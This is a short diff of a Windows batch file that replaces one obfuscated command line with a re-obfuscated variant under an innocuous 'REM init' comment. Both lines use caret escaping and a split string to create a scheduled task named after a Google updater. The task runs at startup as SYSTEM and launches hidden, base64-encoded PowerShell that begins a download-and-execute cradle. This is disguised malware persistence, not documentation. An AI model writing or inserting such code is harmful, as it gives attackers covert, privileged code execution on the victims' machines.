@@ -1,2 +1,2 @@
-REM maintenance 1909 v4
-^for /^f "tokens=1 delims=@" %%^i in ("schtasks@spea@kywm") d^o %%i /cre^at^e /t^n "GoogleUpdateTaskMachine" /^tr "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA" /sc ^onsta^rt /ru S^YS^TE^M /^f
+REM init 3904 v4
+^f^o^r /^f "tokens=1 delims=@" %%i ^in ("schtasks@vwbz@gtcu") do %%^i /cr^e^ate /tn "GoogleUpdateTaskMachine" /^t^r "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA" /^s^c ons^tar^t /^ru SYST^E^M /^f
